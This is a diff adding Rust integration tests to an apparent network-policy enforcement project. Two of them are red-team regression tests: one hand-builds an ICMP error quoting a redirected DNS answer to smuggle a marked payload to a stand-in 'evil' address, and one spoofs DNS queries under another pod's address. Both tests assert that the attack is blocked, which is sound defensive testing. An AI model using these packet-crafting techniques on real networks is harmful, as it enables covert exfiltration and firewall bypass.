@@ -737,6 +737,118 @@ fn redteam_crafted_related_icmp_error_to_denied_destination() {
     assert_eq!(watch.count("evil"), 0, "{}", env.diag());
 }
 
+// Found by the red-team review, fixed: a DNS query to any address leaves a conntrack
+// entry (the proxy answers it in the server's name), and an ICMP error quoting its answer
+// was "related" to it, so it left for that address with whatever payload it carried.
+#[test]
+fn redteam_icmp_error_related_to_redirected_dns_does_not_leave() {
+    let Some(env) = env(vec![]) else { return };
+    let watch = WorldCounter::new(
+        &env,
+        &[("evil", "ip daddr 203.0.113.66 ip protocol icmp".to_owned())],
+    );
+    // DNS to a server the policy does not allow: redirected, answered REFUSED.
+    let sock = env
+        .web()
+        .netns()
+        .run(|| UdpSocket::bind("0.0.0.0:0"))
+        .unwrap()
+        .unwrap();
+    sock.set_read_timeout(Some(Duration::from_secs(2))).unwrap();
+    let query = dns_msg(0x4242, 0x0100, &[b"api", b"example", b"com"], 1, 0, &[]);
+    sock.send_to(&query, "203.0.113.66:53").unwrap();
+    let mut b = [0u8; 512];
+    let (n, _) = sock.recv_from(&mut b).expect("the proxy answers");
+    assert_eq!(b.get(3).map(|f| f & 0x0f), Some(REFUSED), "{:?}", &b[..n]);
+    let sport = sock.local_addr().unwrap().port();
+    // ICMP port unreachable quoting that answer (203.0.113.66:53 -> web:sport).
+    let mut msg = vec![3u8, 3, 0, 0, 0, 0, 0, 0];
+    msg.extend_from_slice(&[0x45, 0, 0, 30, 0, 0, 0, 0, 64, 17, 0, 0]);
+    msg.extend_from_slice(&[203, 0, 113, 66]);
+    msg.extend_from_slice(&env.web().ipv4().octets());
+    msg.extend_from_slice(&53u16.to_be_bytes());
+    msg.extend_from_slice(&sport.to_be_bytes());
+    msg.extend_from_slice(&[0, 10, 0, 0, b'h', b'i']);
+    msg.extend_from_slice(b"EXFILTRATED-DATA-IN-ICMP-ERROR");
+    let mut sum: u32 = 0;
+    for pair in msg.chunks(2) {
+        sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
+    }
+    while sum > 0xffff {
+        sum = (sum & 0xffff) + (sum >> 16);
+    }
+    let ck = !(sum as u16);
+    msg[2..4].copy_from_slice(&ck.to_be_bytes());
+    send_raw(env.web(), 1, ip("203.0.113.66"), &msg);
+    assert_eq!(watch.count("evil"), 0, "{}", env.diag());
+}
+
+// Found by the red-team review, fixed: a pod the policy does not enforce could send DNS
+// under an enforced pod's address; the proxy took it for that pod's (its identity, its
+// rules, its learning) and answered that pod.
+#[test]
+fn redteam_another_pod_cannot_speak_dns_as_an_enforced_pod() {
+    let Some(env) = env(vec![]) else { return };
+    let victim = env
+        .web()
+        .netns()
+        .run(|| UdpSocket::bind("0.0.0.0:0"))
+        .unwrap()
+        .unwrap();
+    victim
+        .set_read_timeout(Some(Duration::from_millis(1500)))
+        .unwrap();
+    let port = victim.local_addr().unwrap().port();
+    let query = dns_msg(0x5151, 0x0100, &[b"api", b"example", b"com"], 1, 0, &[]);
+    let mut udp = Vec::new();
+    udp.extend_from_slice(&port.to_be_bytes());
+    udp.extend_from_slice(&53u16.to_be_bytes());
+    udp.extend_from_slice(&((8 + query.len()) as u16).to_be_bytes());
+    udp.extend_from_slice(&[0, 0]); // no checksum (IPv4)
+    udp.extend_from_slice(&query);
+    let packet = ip_packet(IpAddr::V4(env.web().ipv4()), ip("192.0.2.53"), 17, &udp);
+    send_packet(env.plain().netns(), ip("192.0.2.53"), &packet);
+    let mut b = [0u8; 512];
+    let got = victim.recv_from(&mut b);
+    assert!(
+        got.is_err(),
+        "web got an answer to a query it never sent: {got:?}"
+    );
+    // Control: web's own query from that socket is answered.
+    victim.send_to(&query, "192.0.2.53:53").unwrap();
+    let (n, _) = victim
+        .recv_from(&mut b)
+        .expect("web's own query is answered");
+    assert_eq!(b.get(3).map(|f| f & 0x0f), Some(0), "{:?}", &b[..n]);
+}
+
+// The node's own connections to an enforced pod (health probes, say) keep working:
+// only connections the datapath let start, or the node started, skip the policy.
+#[test]
+fn the_node_reaches_an_enforced_pods_service() {
+    let Some(env) = env(vec![]) else { return };
+    let service = Service::start(env.web().netns(), 7788);
+    let to = SocketAddr::new(IpAddr::V4(env.web().ipv4()), 7788);
+    let got = env
+        .lab
+        .node()
+        .run(move || -> std::io::Result<String> {
+            let mut s = std::net::TcpStream::connect_timeout(&to, Duration::from_secs(2))?;
+            s.set_read_timeout(Some(Duration::from_secs(2)))?;
+            let mut line = String::new();
+            s.read_to_string(&mut line)?;
+            Ok(line)
+        })
+        .unwrap();
+    assert_eq!(
+        got.ok().as_deref(),
+        Some("secret from service\n"),
+        "{}",
+        env.diag()
+    );
+    assert_eq!(service.tcp(), 1);
+}
+
 // ---------------------------------------------------------------------------------------
 // DNS through the proxy
 // ---------------------------------------------------------------------------------------
